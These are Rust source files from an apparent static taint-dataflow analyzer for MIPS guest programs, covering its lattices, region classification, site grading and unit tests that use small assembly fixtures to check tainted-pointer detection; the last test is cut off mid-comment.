        // runtime) without becoming a false lint finding.
        let image = assemble(
            "main: lw $8, 0($5)
                   lb $9, 0($8)
                   jr $31",
        )
        .unwrap();
        let a = analyze(&image);
        assert_eq!(a.findings, vec![]);
        assert_eq!(a.stats.unresolved_sites, 1);
        assert_eq!(a.stats.proven_sites, 2);
    }

    #[test]
    fn dereferencing_read_data_is_flagged() {
        // read(0, buf, 4) then use the read word as a load address:
        // a classic tainted-pointer dereference the lint must flag.
        let image = assemble(
            "       .data
buf:    .word 0
        .text
main:   addiu $4, $0, 0
        lui $5, %hi(buf)
        ori $5, $5, %lo(buf)
        addiu $6, $0, 4
        addiu $2, $0, 3
        syscall
        lui $8, %hi(buf)
        ori $8, $8, %lo(buf)
        lw $9, 0($8)
        lw $10, 0($9)
        jr $31",
        )
        .unwrap();
        let a = analyze(&image);
        assert_eq!(a.stats.flagged_sites, 1, "findings: {:?}", a.findings);
        let f = &a.findings[0];
        assert_eq!(f.kind, SiteKind::Load);
        assert_eq!(f.instr.to_string(), "lw $10,0($9)");
        assert!(!a.proven.contains(&f.pc));
        // The load *of* the tainted word through a clean constant pointer
        // is itself proven.
        assert!(a.stats.proven_sites >= 1);
    }

    #[test]
    fn compare_untaints_the_validated_register() {
        // Same tainted pointer, but validated by a compare first: Table 1
        // untaints the operand, so the dereference is no longer flagged.
        let image = assemble(
            "       .data
buf:    .word 0
        .text
main:   addiu $4, $0, 0
        lui $5, %hi(buf)
        ori $5, $5, %lo(buf)
        addiu $6, $0, 4
        addiu $2, $0, 3
        syscall
        lui $8, %hi(buf)
        ori $8, $8, %lo(buf)
        lw $9, 0($8)
        sltiu $10, $9, 256
        lw $10, 0($9)
        jr $31",
        )
        .unwrap();
        let a = analyze(&image);
        assert_eq!(a.findings, vec![], "compare should untaint $9");
    }

    #[test]
    fn jobs_do_not_change_the_result() {
        let image = assemble(
            "main:  addiu $sp, $sp, -8
                    sw $ra, 4($sp)
                    jal f
                    lw $ra, 4($sp)
                    addiu $sp, $sp, 8
                    jr $ra
f:      lw $2, 0($sp)
        jr $31",
        )
        .unwrap();
        let a1 = analyze_with(&image, 1);
        let a4 = analyze_with(&image, 4);
        assert_eq!(a1, a4);
    }

    #[test]
    fn callee_summary_flows_back_to_the_caller() {
        // f returns its stack argument; the caller then dereferences the
        // returned data pointer. With summaries the call no longer havocs:
        // every site stays proven or unresolved, none flagged.
        let image = assemble(
            "       .data
tbl:    .word 7
        .text
main:   addiu $sp, $sp, -8
        sw $ra, 4($sp)
        lui $8, %hi(tbl)
        ori $8, $8, %lo(tbl)
        addiu $sp, $sp, -4
        sw $8, 0($sp)
        jal f
        addiu $sp, $sp, 4
        lw $9, 0($2)
        lw $ra, 4($sp)
        addiu $sp, $sp, 8
        jr $ra
f:      lw $2, 0($sp)
        jr $31",
        )
        .unwrap();
        let a = analyze(&image);
        assert!(a.degraded.is_none());
        assert_eq!(a.findings, vec![], "summaries should keep this clean");
        // The deref of the returned table pointer is proven: the summary
        // carried the constant pointer through the call.
        assert_eq!(a.stats.unresolved_sites, 0, "stats: {:?}", a.stats);
    }
}
