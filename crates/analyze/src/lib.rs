#![warn(missing_docs)]

//! # ptaint-analyze — static taint dataflow over guest images
//!
//! The paper's detector is purely dynamic: every load, store and register
//! jump pays a taint check at runtime. This crate runs the same Table-1
//! propagation rules *statically* — a fixpoint abstract interpretation over
//! the recovered control-flow graph, seeding taint at exactly the sources
//! the kernel taints dynamically (`read`/`recv` buffers, argv/envp strings)
//! — and emits two artifacts:
//!
//! * a **lint report** ([`render_report`]): every load/store/`jr` whose
//!   address register may be tainted on some path, with disassembly and a
//!   call-chain from the entry point — the ghttpd-style bugs of §5.1.2,
//!   surfaced before execution;
//! * a **proven-clean set** ([`Analysis::proven`]): instruction addresses
//!   whose pointer check can never fire, which the cached execution engine
//!   uses to elide taint checks (see `ptaint-cpu`); soundness is a
//!   `Clean`-means-never-tainted claim, argued in DESIGN.md §Static
//!   analysis and enforced by a machine-level differential test.
//!
//! ```
//! use ptaint_asm::assemble;
//!
//! let image = assemble("main: lw $2, 0($29)\n jr $31").unwrap();
//! let analysis = ptaint_analyze::analyze(&image);
//! // Stack load through $sp and the return jump are both provably clean.
//! assert_eq!(analysis.stats.proven_sites, 2);
//! assert!(analysis.findings.is_empty());
//! ```

mod domain;
mod interp;
mod report;
mod state;

use std::collections::{BTreeMap, BTreeSet, VecDeque};

use ptaint_asm::Image;
use ptaint_isa::Instr;

pub use domain::{Region, Taint};
pub use report::render_report;

/// What kind of pointer-checked instruction a finding points at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SiteKind {
    /// A memory load (`l{b,h,w}[u]`).
    Load,
    /// A memory store (`s{b,h,w}`).
    Store,
    /// A register-indirect jump (`jr`/`jalr`).
    RegisterJump,
}

/// One lint finding: a pointer-checked instruction whose address register
/// may be tainted on some feasible abstract path.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Instruction address.
    pub pc: u32,
    /// The flagged instruction.
    pub instr: Instr,
    /// Load, store, or register jump.
    pub kind: SiteKind,
    /// Name of the containing function (symbol, or hex address).
    pub function: String,
    /// Byte offset of `pc` within the containing function.
    pub offset: u32,
    /// Call chain from the entry function to the containing function
    /// (definite `jal`/resolved-`jalr` edges only; starts at the entry).
    pub chain: Vec<String>,
}

/// Aggregate counters describing the analysis run.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct AnalyzeStats {
    /// Functions owning at least one reachable block.
    pub functions: usize,
    /// Reachable basic blocks.
    pub blocks: usize,
    /// Reachable instructions.
    pub instructions: usize,
    /// Reachable loads and stores.
    pub load_store_sites: usize,
    /// Reachable register jumps.
    pub register_jump_sites: usize,
    /// Sites whose address register is provably clean on every path.
    pub proven_sites: usize,
    /// Sites flagged tainted on some path.
    pub flagged_sites: usize,
    /// Sites the analysis could not decide either way.
    pub unresolved_sites: usize,
}

/// The full result of analyzing one image.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Analysis {
    /// Aggregate counters.
    pub stats: AnalyzeStats,
    /// Tainted-pointer findings, sorted by address.
    pub findings: Vec<Finding>,
    /// Addresses of pointer-checked instructions proven clean — the
    /// elision candidates handed to the decode cache. Empty when the
    /// analysis is degraded.
    pub proven: BTreeSet<u32>,
    /// Text page indexes targeted by statically visible stores
    /// (self-modifying code); their sites are never proven.
    pub smc_pages: BTreeSet<u32>,
    /// `Some(reason)` when the analysis gave up proving anything.
    pub degraded: Option<String>,
}

/// Statically analyzes a loaded image: recovers the CFG, runs the taint
/// fixpoint, and grades every pointer-checked site.
#[must_use]
pub fn analyze(image: &Image) -> Analysis {
    let ctx = state::Ctx::new(image);
    let fp = interp::fixpoint(ctx);
    let ex = interp::extract(&fp);

    // Function partitioning: each reachable block belongs to the nearest
    // preceding function entry.
    let entries: Vec<u32> = fp.pre.fn_entries.iter().copied().collect();
    let owner = |pc: u32| -> Option<u32> {
        match entries.binary_search(&pc) {
            Ok(_) => Some(pc),
            Err(0) => None,
            Err(i) => Some(entries[i - 1]),
        }
    };
    let fn_name = |addr: u32| -> String {
        image
            .symbol_at(addr)
            .map_or_else(|| format!("{addr:#010x}"), str::to_owned)
    };

    // Definite call graph at function granularity, then a BFS from the
    // entry function to derive reachability chains.
    let mut graph: BTreeMap<u32, BTreeSet<u32>> = BTreeMap::new();
    for &(caller_pc, callee) in &ex.calls {
        if let (Some(from), Some(to)) = (owner(caller_pc), owner(callee)) {
            graph.entry(from).or_default().insert(to);
        }
    }
    let root = owner(fp.ctx.entry).unwrap_or(fp.ctx.entry);
    let mut parent: BTreeMap<u32, u32> = BTreeMap::new();
    let mut queue = VecDeque::from([root]);
    let mut seen = BTreeSet::from([root]);
    while let Some(f) = queue.pop_front() {
        if let Some(callees) = graph.get(&f) {
            for &c in callees {
                if seen.insert(c) {
                    parent.insert(c, f);
                    queue.push_back(c);
                }
            }
        }
    }
    let chain_of = |f: u32| -> Vec<String> {
        let mut path = vec![f];
        let mut cur = f;
        while let Some(&p) = parent.get(&cur) {
            path.push(p);
            cur = p;
        }
        if !seen.contains(&f) {
            return vec![fn_name(f)];
        }
        path.reverse();
        path.into_iter().map(fn_name).collect()
    };

    let mut stats = AnalyzeStats {
        blocks: fp.in_states.len(),
        instructions: ex.instructions,
        ..AnalyzeStats::default()
    };
    let mut owners: BTreeSet<u32> = BTreeSet::new();
    for &leader in fp.in_states.keys() {
        if let Some(f) = owner(leader) {
            owners.insert(f);
        }
    }
    stats.functions = owners.len();

    let mut findings = Vec::new();
    let mut proven = BTreeSet::new();
    for site in ex.sites.values() {
        if site.is_jump {
            stats.register_jump_sites += 1;
        } else {
            stats.load_store_sites += 1;
        }
        match site.taint {
            Taint::Clean => {
                let on_smc_page = fp.fx.smc_pages.contains(&(site.pc / ptaint_isa::PAGE_SIZE));
                if fp.degraded.is_none() && !on_smc_page {
                    proven.insert(site.pc);
                    stats.proven_sites += 1;
                } else {
                    stats.unresolved_sites += 1;
                }
            }
            Taint::Unknown => stats.unresolved_sites += 1,
            Taint::Tainted => {
                stats.flagged_sites += 1;
                let function = owner(site.pc).unwrap_or(fp.ctx.entry);
                findings.push(Finding {
                    pc: site.pc,
                    instr: site.instr,
                    kind: match site.instr {
                        Instr::Load { .. } => SiteKind::Load,
                        Instr::Store { .. } => SiteKind::Store,
                        _ => SiteKind::RegisterJump,
                    },
                    function: fn_name(function),
                    offset: site.pc - function,
                    chain: chain_of(function),
                });
            }
        }
    }

    Analysis {
        stats,
        findings,
        proven,
        smc_pages: fp.fx.smc_pages.clone(),
        degraded: fp.degraded.clone(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_asm::assemble;

    #[test]
    fn straight_line_stack_code_is_fully_proven() {
        let image = assemble(
            "main: addiu $sp, $sp, -16
                   sw $ra, 12($sp)
                   lw $2, 8($sp)
                   lw $ra, 12($sp)
                   addiu $sp, $sp, 16
                   jr $ra",
        )
        .unwrap();
        let a = analyze(&image);
        assert!(a.degraded.is_none());
        assert_eq!(a.findings, vec![]);
        // sw, lw, lw, jr all proven; the exit stub adds none.
        assert_eq!(a.stats.proven_sites, 4);
        assert_eq!(a.stats.load_store_sites, 3);
        assert_eq!(a.stats.register_jump_sites, 1);
    }

    #[test]
    fn loading_an_argv_string_pointer_is_not_proven_but_not_flagged() {
        // lw $t0, 0($a1) loads argv[0] through the (clean) array pointer —
        // provably safe. lb $t1, 0($t0) dereferences the loaded pointer:
        // concretely clean, but it lives in the band shared with the
        // tainted string bytes, so it stays unresolved (checked at
        // runtime) without becoming a false lint finding.
        let image = assemble(
            "main: lw $8, 0($5)
                   lb $9, 0($8)
                   jr $31",
        )
        .unwrap();
        let a = analyze(&image);
        assert_eq!(a.findings, vec![]);
        assert_eq!(a.stats.unresolved_sites, 1);
        assert_eq!(a.stats.proven_sites, 2);
    }

    #[test]
    fn dereferencing_read_data_is_flagged() {
        // read(0, buf, 4) then use the read word as a load address:
        // a classic tainted-pointer dereference the lint must flag.
        let image = assemble(
            "       .data
buf:    .word 0
        .text
main:   addiu $4, $0, 0
        lui $5, %hi(buf)
        ori $5, $5, %lo(buf)
        addiu $6, $0, 4
        addiu $2, $0, 3
        syscall
        lui $8, %hi(buf)
        ori $8, $8, %lo(buf)
        lw $9, 0($8)
        lw $10, 0($9)
        jr $31",
        )
        .unwrap();
        let a = analyze(&image);
        assert_eq!(a.stats.flagged_sites, 1, "findings: {:?}", a.findings);
        let f = &a.findings[0];
        assert_eq!(f.kind, SiteKind::Load);
        assert_eq!(f.instr.to_string(), "lw $10,0($9)");
        assert!(!a.proven.contains(&f.pc));
        // The load *of* the tainted word through a clean constant pointer
        // is itself proven.
        assert!(a.stats.proven_sites >= 1);
    }

    #[test]
    fn compare_untaints_the_validated_register() {
        // Same tainted pointer, but validated by a compare first: Table 1
        // untaints the operand, so the dereference is no longer flagged.
        let image = assemble(
            "       .data
buf:    .word 0
        .text
main:   addiu $4, $0, 0
        lui $5, %hi(buf)
        ori $5, $5, %lo(buf)
        addiu $6, $0, 4
        addiu $2, $0, 3
        syscall
        lui $8, %hi(buf)
        ori $8, $8, %lo(buf)
        lw $9, 0($8)
        sltiu $10, $9, 256
        lw $10, 0($9)
        jr $31",
        )
        .unwrap();
        let a = analyze(&image);
        assert_eq!(a.findings, vec![], "compare should untaint $9");
    }
}
