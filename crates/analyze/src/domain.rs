//! Abstract domains of the static analysis.
//!
//! The analysis runs over two coupled lattices:
//!
//! * a three-value **taint lattice** ([`Taint`]: `Clean < Unknown < Tainted`)
//!   abstracting the per-byte taint words of the dynamic detector — `Clean`
//!   means *no concrete execution can see taint here*, `Tainted` means *some
//!   path provably propagates external input here*, and `Unknown` is the
//!   honest middle;
//! * a small **value lattice** ([`Value`]) tracking pointer-sized constants
//!   precisely (up to [`MAX_CONSTS`] per cell) and widening larger sets to
//!   the memory [`Region`] they point into, which is what keeps stores
//!   through strided pointers (`strcpy` loops and friends) sound without
//!   giving up on the rest of the address space.

use ptaint_isa::{ARG_BASE, DATA_BASE, STACK_TOP, TEXT_BASE};

/// Three-value taint abstraction, ordered `Clean < Unknown < Tainted`.
///
/// `join` is `max`: a cell is `Clean` only when *every* path leaves it clean,
/// and `Tainted` when *some* path taints it. Lint findings report `Tainted`
/// sites; check elision requires `Clean`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Taint {
    /// No execution reaching this point can carry taint here.
    Clean,
    /// The analysis cannot decide; the runtime check stays armed.
    Unknown,
    /// Some feasible abstract path propagates external input here.
    Tainted,
}

impl Taint {
    /// Least upper bound (`max` under the total order).
    #[must_use]
    pub fn join(self, other: Taint) -> Taint {
        self.max(other)
    }
}

/// Coarse partition of the 32-bit address space, mirroring how the loader
/// and kernel populate it.
///
/// `ArgPtrs` and `ArgStrings` are *virtual* regions: the loader interleaves
/// the argv/envp pointer arrays and string bytes in the same physical band
/// `[STACK_TOP, ARG_BASE)`, so the two views are linked — havocking either
/// havocs both (see `State::havoc_region`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Region {
    /// Program text plus the loader's exit stub.
    Text,
    /// Initialized data up to the initial program break.
    Data,
    /// `[brk0, 0x4000_0000)` — memory obtained by growing the break.
    Heap,
    /// `[0x4000_0000, STACK_TOP)` — the downward-growing stack.
    Stack,
    /// The argv/envp *string bytes* (external input: default-tainted).
    ArgStrings,
    /// The kernel-built argv/envp *pointer arrays* (clean words whose
    /// values point into [`Region::ArgStrings`]).
    ArgPtrs,
    /// Everything else (demand-zero, never populated by the loader).
    Other,
}

impl Region {
    /// Number of regions (for fixed-size per-region tables).
    pub const COUNT: usize = 7;

    /// Dense index for per-region tables.
    #[must_use]
    pub fn index(self) -> usize {
        match self {
            Region::Text => 0,
            Region::Data => 1,
            Region::Heap => 2,
            Region::Stack => 3,
            Region::ArgStrings => 4,
            Region::ArgPtrs => 5,
            Region::Other => 6,
        }
    }

    /// Taint of region bytes the program never wrote: only the argv/envp
    /// string bytes start life tainted (paper §4.4); everything else the
    /// loader touches is program-trusted, and untouched pages are
    /// demand-zero.
    #[must_use]
    pub fn initial_taint(self) -> Taint {
        match self {
            Region::ArgStrings => Taint::Tainted,
            _ => Taint::Clean,
        }
    }
}

/// Address-space geometry of one loaded image: everything [`Value`]
/// classification needs beyond the global layout constants.
#[derive(Debug, Clone, Copy)]
pub struct MemLayout {
    /// One past the end of text *including* the loader's exit stub.
    pub text_limit: u32,
    /// Initial program break: the first page boundary after the data
    /// segment (heap starts here).
    pub brk0: u32,
}

/// Boundary between the (huge) heap region and the stack region. Nothing in
/// the testbed allocates anywhere near it; it only decides which region a
/// widened constant set belongs to.
const HEAP_STACK_SPLIT: u32 = 0x4000_0000;

impl MemLayout {
    /// The contiguous segments of the address space in ascending order,
    /// with *inclusive* bounds and the owning region. [`Region::Other`]
    /// appears several times (below text, between text and data, above the
    /// argument band); a segment whose region is empty for this image
    /// (e.g. `Data` when there is no data) has `start > end` and must be
    /// skipped.
    fn segments(&self) -> [(u32, u32, Region); 8] {
        [
            (0, TEXT_BASE - 1, Region::Other),
            (TEXT_BASE, self.text_limit - 1, Region::Text),
            (self.text_limit, DATA_BASE - 1, Region::Other),
            (DATA_BASE, self.brk0.wrapping_sub(1), Region::Data),
            (self.brk0, HEAP_STACK_SPLIT - 1, Region::Heap),
            (HEAP_STACK_SPLIT, STACK_TOP - 1, Region::Stack),
            (STACK_TOP, ARG_BASE - 1, Region::ArgStrings),
            (ARG_BASE, u32::MAX, Region::Other),
        ]
    }

    /// The regions overlapping the inclusive byte span `[lo, hi]` — i.e.
    /// every region a linear byte write covering the span can touch.
    /// Kernel buffer copies (`read`/`recv`) do not stop at region
    /// boundaries, so an imprecisely-bounded delivery must havoc all of
    /// these, not just the region containing its base.
    #[must_use]
    pub fn span_regions(&self, lo: u32, hi: u32) -> Vec<Region> {
        let mut out = Vec::new();
        for (s, e, r) in self.segments() {
            if s > e || e < lo || s > hi {
                continue;
            }
            if !out.contains(&r) {
                out.push(r);
            }
        }
        out
    }

    /// Inclusive address bounds of a region's single contiguous extent;
    /// `None` for [`Region::Other`], which is scattered across the space.
    /// The two virtual argument regions share the same physical band.
    #[must_use]
    pub fn region_span(&self, r: Region) -> Option<(u32, u32)> {
        match r {
            Region::Text => Some((TEXT_BASE, self.text_limit - 1)),
            Region::Data => Some((DATA_BASE, self.brk0.wrapping_sub(1))),
            Region::Heap => Some((self.brk0, HEAP_STACK_SPLIT - 1)),
            Region::Stack => Some((HEAP_STACK_SPLIT, STACK_TOP - 1)),
            Region::ArgStrings | Region::ArgPtrs => Some((STACK_TOP, ARG_BASE - 1)),
            Region::Other => None,
        }
    }

    /// Total classification of an address into its region.
    #[must_use]
    pub fn classify(&self, addr: u32) -> Region {
        if (TEXT_BASE..self.text_limit).contains(&addr) {
            Region::Text
        } else if (DATA_BASE..self.brk0).contains(&addr) {
            Region::Data
        } else if (self.brk0..HEAP_STACK_SPLIT).contains(&addr) {
            Region::Heap
        } else if (HEAP_STACK_SPLIT..STACK_TOP).contains(&addr) {
            Region::Stack
        } else if (STACK_TOP..ARG_BASE).contains(&addr) {
            // Pointer arrays and string bytes share this band; constants
            // conflate to the tainted view (sound: Tainted is top).
            Region::ArgStrings
        } else {
            Region::Other
        }
    }
}

/// Maximum number of constants tracked per cell before widening to a
/// region. Large enough for small switch tables and a few call depths,
/// small enough that loops converge after a handful of iterations.
pub const MAX_CONSTS: usize = 8;

/// Deepest caller whose return address [`Value::RetAddr`] still tracks;
/// values escaping past this many nested frames degrade to
/// [`Value::Unknown`]. Compiled code only ever holds the *current* frame's
/// return address in a register (depth 0); deeper depths arise from saved
/// slots of enclosing frames seen across call edges.
pub const MAX_RET_DEPTH: u8 = 3;

/// Cap on the cartesian blow-up when combining two constant sets.
const MAX_PAIRS: usize = 64;

/// Abstract 32-bit value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Value {
    /// One of finitely many known constants (sorted, deduplicated,
    /// non-empty, at most [`MAX_CONSTS`] entries).
    Consts(Vec<u32>),
    /// Some address within the given region (magnitude unknown).
    InRegion(Region),
    /// The return address of the `k`-th enclosing caller of the function
    /// under analysis (`0` = the pc this invocation must return to). The
    /// interprocedural engine analyzes every function against an opaque
    /// return address so that `jr $ra` resolves *structurally* — the
    /// concrete pc is substituted only when a summary is applied at a
    /// specific call site. Depths above [`MAX_RET_DEPTH`] are not tracked.
    RetAddr(u8),
    /// The saved frame pointer of the `k`-th enclosing caller of the
    /// function under analysis. The counterpart of [`Value::RetAddr`] for
    /// `$fp`: every call edge passes the caller's frame pointer as this
    /// opaque token, so the callee's joined context holds *one* value no
    /// matter how many callers (with however many distinct frame layouts)
    /// it has, and the callee's spill/restore round-trips it unchanged.
    /// The concrete (per-caller) value is substituted back when the exit
    /// summary is applied at a specific call site
    /// ([`crate::state::State::apply_return`]).
    FrameBase(u8),
    /// No information.
    Unknown,
}

impl Value {
    /// The singleton constant.
    #[must_use]
    pub fn constant(v: u32) -> Value {
        Value::Consts(vec![v])
    }

    /// The constants, if this value is a known set.
    #[must_use]
    pub fn consts(&self) -> Option<&[u32]> {
        match self {
            Value::Consts(vs) => Some(vs),
            _ => None,
        }
    }

    /// The constant, if this value is a known singleton.
    #[must_use]
    pub fn singleton(&self) -> Option<u32> {
        match self.consts() {
            Some([v]) => Some(*v),
            _ => None,
        }
    }

    /// Canonicalizes a raw constant list: sort, dedup, and widen to
    /// [`Value::InRegion`] (all constants in one region) or
    /// [`Value::Unknown`] once the set exceeds [`MAX_CONSTS`].
    #[must_use]
    pub fn normalize(mut vs: Vec<u32>, lay: &MemLayout) -> Value {
        vs.sort_unstable();
        vs.dedup();
        if vs.is_empty() {
            return Value::Unknown;
        }
        if vs.len() <= MAX_CONSTS {
            return Value::Consts(vs);
        }
        let r = lay.classify(vs[0]);
        if vs.iter().all(|&v| lay.classify(v) == r) {
            Value::InRegion(r)
        } else {
            Value::Unknown
        }
    }

    /// Least upper bound of two abstract values.
    #[must_use]
    pub fn join(&self, other: &Value, lay: &MemLayout) -> Value {
        match (self, other) {
            (Value::Consts(a), Value::Consts(b)) => {
                let mut vs = a.clone();
                vs.extend_from_slice(b);
                Value::normalize(vs, lay)
            }
            (Value::Consts(cs), Value::InRegion(r)) | (Value::InRegion(r), Value::Consts(cs)) => {
                if cs.iter().all(|&v| lay.classify(v) == *r) {
                    Value::InRegion(*r)
                } else {
                    Value::Unknown
                }
            }
            (Value::InRegion(a), Value::InRegion(b)) if a == b => Value::InRegion(*a),
            (Value::RetAddr(a), Value::RetAddr(b)) if a == b => Value::RetAddr(*a),
            (Value::FrameBase(a), Value::FrameBase(b)) if a == b => Value::FrameBase(*a),
            _ => Value::Unknown,
        }
    }

    /// Applies a unary arithmetic function to a constant set; anything
    /// else degrades to [`Value::Unknown`].
    #[must_use]
    pub fn map(&self, lay: &MemLayout, f: impl Fn(u32) -> u32) -> Value {
        match self.consts() {
            Some(vs) => Value::normalize(vs.iter().map(|&v| f(v)).collect(), lay),
            None => Value::Unknown,
        }
    }

    /// Applies a binary arithmetic function over the cartesian product of
    /// two constant sets (bounded by an internal pair cap).
    #[must_use]
    pub fn binop(&self, other: &Value, lay: &MemLayout, f: impl Fn(u32, u32) -> u32) -> Value {
        match (self.consts(), other.consts()) {
            (Some(a), Some(b)) if a.len() * b.len() <= MAX_PAIRS => {
                let mut vs = Vec::with_capacity(a.len() * b.len());
                for &x in a {
                    for &y in b {
                        vs.push(f(x, y));
                    }
                }
                Value::normalize(vs, lay)
            }
            _ => Value::Unknown,
        }
    }

    /// Whether this value is a widened *integer* rather than a pointer:
    /// [`Region::Other`] is the band the loader never populates (small
    /// magnitudes below text, and everything above the argument band), so a
    /// constant set that widened there is a loop counter or arithmetic
    /// residue, not an address. Pointer arithmetic against it keeps the
    /// pointer operand's region.
    fn is_widened_int(&self) -> bool {
        matches!(self, Value::InRegion(Region::Other))
    }

    /// The single region containing every constant of the set, if any.
    fn consts_region(cs: &[u32], lay: &MemLayout) -> Option<Region> {
        let r = lay.classify(cs[0]);
        cs.iter().all(|&v| lay.classify(v) == r).then_some(r)
    }

    /// Addition with pointer-arithmetic awareness: region + constant stays
    /// in the region, and pointer + widened integer index (a loop counter
    /// that outgrew [`MAX_CONSTS`]) stays in the pointer's region — the
    /// `s[i]` idiom of every libc string loop (the analysis does not model
    /// objects crossing a region boundary; see DESIGN.md for why that is
    /// acceptable here).
    #[must_use]
    pub fn add(&self, other: &Value, lay: &MemLayout) -> Value {
        match (self, other) {
            (Value::Consts(_), Value::Consts(_)) => {
                self.binop(other, lay, |a, b| a.wrapping_add(b))
            }
            (Value::Consts(cs), w) | (w, Value::Consts(cs)) if w.is_widened_int() => {
                Value::consts_region(cs, lay).map_or(Value::Unknown, Value::InRegion)
            }
            (Value::InRegion(r), w) | (w, Value::InRegion(r)) if w.is_widened_int() => {
                Value::InRegion(*r)
            }
            (Value::InRegion(r), Value::Consts(_)) | (Value::Consts(_), Value::InRegion(r)) => {
                Value::InRegion(*r)
            }
            // `move` lowered to `addu rd, rs, $0` / `addiu rd, rs, 0` must
            // preserve the opaque return address, or the epilogue's
            // restored `$ra` would widen and the return would not resolve.
            (Value::RetAddr(k), v) | (v, Value::RetAddr(k)) if v.singleton() == Some(0) => {
                Value::RetAddr(*k)
            }
            (Value::FrameBase(k), v) | (v, Value::FrameBase(k)) if v.singleton() == Some(0) => {
                Value::FrameBase(*k)
            }
            _ => Value::Unknown,
        }
    }

    /// Subtraction: region − constant stays in the region; everything else
    /// involving a region is an integer difference we do not track.
    #[must_use]
    pub fn sub(&self, other: &Value, lay: &MemLayout) -> Value {
        match (self, other) {
            (Value::Consts(_), Value::Consts(_)) => {
                self.binop(other, lay, |a, b| a.wrapping_sub(b))
            }
            (Value::Consts(cs), w) if w.is_widened_int() => {
                Value::consts_region(cs, lay).map_or(Value::Unknown, Value::InRegion)
            }
            (Value::InRegion(r), w) if w.is_widened_int() => Value::InRegion(*r),
            (Value::InRegion(r), Value::Consts(_)) => Value::InRegion(*r),
            (Value::RetAddr(k), v) if v.singleton() == Some(0) => Value::RetAddr(*k),
            (Value::FrameBase(k), v) if v.singleton() == Some(0) => Value::FrameBase(*k),
            _ => Value::Unknown,
        }
    }
}

/// One abstract cell: a taint bound plus a value bound.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AbsVal {
    /// Taint bound of the cell.
    pub taint: Taint,
    /// Value bound of the cell.
    pub value: Value,
}

impl AbsVal {
    /// An untainted known constant (program literals, `lui` results, …).
    #[must_use]
    pub fn clean_const(v: u32) -> AbsVal {
        AbsVal {
            taint: Taint::Clean,
            value: Value::constant(v),
        }
    }

    /// A cell about which nothing is known except its taint bound.
    #[must_use]
    pub fn opaque(taint: Taint) -> AbsVal {
        AbsVal {
            taint,
            value: Value::Unknown,
        }
    }

    /// Least upper bound.
    #[must_use]
    pub fn join(&self, other: &AbsVal, lay: &MemLayout) -> AbsVal {
        AbsVal {
            taint: self.taint.join(other.taint),
            value: self.value.join(&other.value, lay),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_isa::PAGE_SIZE;

    fn lay() -> MemLayout {
        MemLayout {
            text_limit: TEXT_BASE + 0x100,
            brk0: DATA_BASE + PAGE_SIZE,
        }
    }

    #[test]
    fn taint_join_is_max() {
        assert_eq!(Taint::Clean.join(Taint::Tainted), Taint::Tainted);
        assert_eq!(Taint::Clean.join(Taint::Unknown), Taint::Unknown);
        assert_eq!(Taint::Clean.join(Taint::Clean), Taint::Clean);
    }

    #[test]
    fn classification_covers_the_address_space() {
        let l = lay();
        assert_eq!(l.classify(TEXT_BASE), Region::Text);
        assert_eq!(l.classify(TEXT_BASE + 0x100), Region::Other);
        assert_eq!(l.classify(DATA_BASE), Region::Data);
        assert_eq!(l.classify(DATA_BASE + PAGE_SIZE), Region::Heap);
        assert_eq!(l.classify(STACK_TOP - 4), Region::Stack);
        assert_eq!(l.classify(STACK_TOP), Region::ArgStrings);
        assert_eq!(l.classify(ARG_BASE), Region::Other);
        assert_eq!(l.classify(0), Region::Other);
    }

    #[test]
    fn span_regions_walks_every_band_the_span_touches() {
        let l = lay();
        // Entirely inside one region.
        assert_eq!(
            l.span_regions(DATA_BASE, DATA_BASE + 16),
            vec![Region::Data]
        );
        // A delivery starting in the last data page and running past the
        // initial break reaches the heap too (the REVIEW.md seed fix).
        assert_eq!(
            l.span_regions(DATA_BASE, DATA_BASE + PAGE_SIZE + 4),
            vec![Region::Data, Region::Heap]
        );
        // Statically unbounded span: every band from data upward.
        assert_eq!(
            l.span_regions(DATA_BASE, u32::MAX),
            vec![
                Region::Data,
                Region::Heap,
                Region::Stack,
                Region::ArgStrings,
                Region::Other
            ]
        );
    }

    #[test]
    fn empty_data_segment_is_skipped_in_spans() {
        // brk0 == DATA_BASE (no .data): the degenerate data segment must
        // not swallow addresses that belong to the heap.
        let l = MemLayout {
            text_limit: TEXT_BASE + 0x100,
            brk0: DATA_BASE,
        };
        assert_eq!(l.span_regions(DATA_BASE, DATA_BASE + 8), vec![Region::Heap]);
    }

    #[test]
    fn region_span_matches_classify_at_the_edges() {
        let l = lay();
        for r in [Region::Text, Region::Data, Region::Heap, Region::Stack] {
            let (lo, hi) = l.region_span(r).unwrap();
            assert_eq!(l.classify(lo), r, "{r:?} low edge");
            assert_eq!(l.classify(hi), r, "{r:?} high edge");
        }
        // The two virtual argument regions share one physical band.
        assert_eq!(
            l.region_span(Region::ArgPtrs),
            l.region_span(Region::ArgStrings)
        );
        assert_eq!(l.region_span(Region::Other), None);
    }

    #[test]
    fn const_sets_widen_to_their_region() {
        let l = lay();
        let stack: Vec<u32> = (0..(MAX_CONSTS as u32 + 1))
            .map(|i| STACK_TOP - 64 - 4 * i)
            .collect();
        assert_eq!(Value::normalize(stack, &l), Value::InRegion(Region::Stack));
        let mixed: Vec<u32> = (0..(MAX_CONSTS as u32 + 1))
            .map(|i| {
                if i == 0 {
                    DATA_BASE
                } else {
                    STACK_TOP - 64 - i
                }
            })
            .collect();
        assert_eq!(Value::normalize(mixed, &l), Value::Unknown);
    }

    #[test]
    fn pointer_arithmetic_stays_in_region() {
        let l = lay();
        let p = Value::InRegion(Region::Stack);
        assert_eq!(
            p.add(&Value::constant(8), &l),
            Value::InRegion(Region::Stack)
        );
        assert_eq!(
            p.sub(&Value::constant(8), &l),
            Value::InRegion(Region::Stack)
        );
        assert_eq!(Value::constant(8).sub(&p, &l), Value::Unknown);
    }

    #[test]
    fn indexed_pointer_arithmetic_keeps_the_base_region() {
        // A loop counter that outgrew MAX_CONSTS widens to
